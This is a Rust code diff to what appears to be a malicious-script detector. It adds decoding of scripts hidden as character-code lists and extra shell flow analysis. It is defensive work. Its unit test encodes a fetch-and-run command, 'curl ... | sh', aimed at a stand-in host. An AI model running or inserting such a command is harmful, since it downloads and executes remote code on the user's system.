@@ -106,7 +106,12 @@ fn fold(text: &Text, language: Language) -> Folded {
 fn look(waiting: &Waiting, folded: &Folded) -> Unit {
     let text = &folded.text.text;
     let mut acts = match waiting.language {
-        Language::Shell | Language::Batch => deeds::shell::acts(text),
+        Language::Shell => {
+            let mut found = deeds::shell::acts(text);
+            found.extend(deeds::flow::acts(text));
+            found
+        }
+        Language::Batch => deeds::shell::acts(text),
         Language::PowerShell => deeds::powershell::acts(text),
         Language::VbScript => deeds::vbscript::acts(text),
         Language::AppleScript => {
@@ -172,6 +177,15 @@ fn inner(outer: &Waiting, folded: &Folded, unit: &Unit, waiting: &mut Vec<Waitin
                 text: decoded.as_str().into(),
             };
             add(&act.range, &[layer], decoded, true);
+        }
+    }
+    for (range, plain) in codes(&folded.text.text) {
+        if looks_like_script(&plain) {
+            let layer = Layer {
+                encoding: "character codes",
+                text: plain.as_str().into(),
+            };
+            add(&range, &[layer], &plain, false);
         }
     }
     let limits = LayerLimits {
@@ -240,4 +254,67 @@ fn looks_like_script(text: &str) -> bool {
         "python",
     ];
     words.iter().any(|word| lower.contains(word))
+}
+
+/// Fewest numbers that are a text and not a table.
+const CODES: usize = 16;
+
+/// Texts written as lists of character codes, with where they stand.
+fn codes(text: &str) -> Vec<(Range<usize>, String)> {
+    let mut found = Vec::new();
+    let (mut plain, mut start, mut at) = (String::new(), 0, 0);
+    for part in text.split_inclusive(',') {
+        let place = at;
+        at += part.len();
+        // What stands before the first number belongs to no list: `Array(112`.
+        let number = part.trim_end_matches(',').trim();
+        let first = number.rsplit(|c: char| !c.is_ascii_alphanumeric()).next();
+        let last = number.split(|c: char| !c.is_ascii_alphanumeric()).next();
+        let whole = code(number);
+        if whole.is_none() && plain.len() + 1 >= CODES {
+            plain.extend(last.and_then(code));
+            found.push((start..at, std::mem::take(&mut plain)));
+        }
+        match whole.or_else(|| first.and_then(code)) {
+            Some(c) => {
+                if whole.is_none() || plain.is_empty() {
+                    plain.clear();
+                    start = place;
+                }
+                plain.push(c);
+            }
+            None => plain.clear(),
+        }
+        if found.len() >= UNITS {
+            return found;
+        }
+    }
+    if plain.len() >= CODES {
+        found.push((start..at, plain));
+    }
+    found
+}
+
+/// The printable character of a number, decimal or `0x…`.
+fn code(number: &str) -> Option<char> {
+    let value = match number.strip_prefix("0x") {
+        Some(digits) => u8::from_str_radix(digits, 16).ok()?,
+        None => number.parse().ok()?,
+    };
+    let c = char::from(value);
+    (c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\r' | '\t')).then_some(c)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn lists_of_codes_are_read() {
+        let hidden = "curl http://a.example/x | sh";
+        let list: Vec<String> = hidden.bytes().map(|byte| byte.to_string()).collect();
+        let text = format!("a = Array({}) : b = 1", list.join(", "));
+        assert_eq!(codes(&text)[0].1, hidden);
+        assert!(codes("f(1, 2, 3), g(65, 66)").is_empty());
+    }
 }
